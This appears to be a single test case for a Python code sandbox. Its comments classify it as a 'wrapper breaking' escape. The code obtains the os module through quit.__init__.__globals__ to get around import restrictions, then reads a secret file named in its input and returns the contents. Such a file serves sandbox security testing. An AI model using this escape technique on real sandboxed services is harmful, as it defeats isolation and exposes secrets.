# class: wrapper breaking
# technique: an await where no coroutine is
# layers: analyzer, supervisor
# code: user
# control: the child moves whole lines, and puts syntax trees together where a line is not plainly whole, whatever is off
# witness: secret
host = _items[0]["json"]
async def read():
    os = quit.__init__.__globals__["sys"].modules["os"]
    return os.read(os.open(host["secret"], 0), 4096).decode()
return [{"json": {"reached": await read()}}]
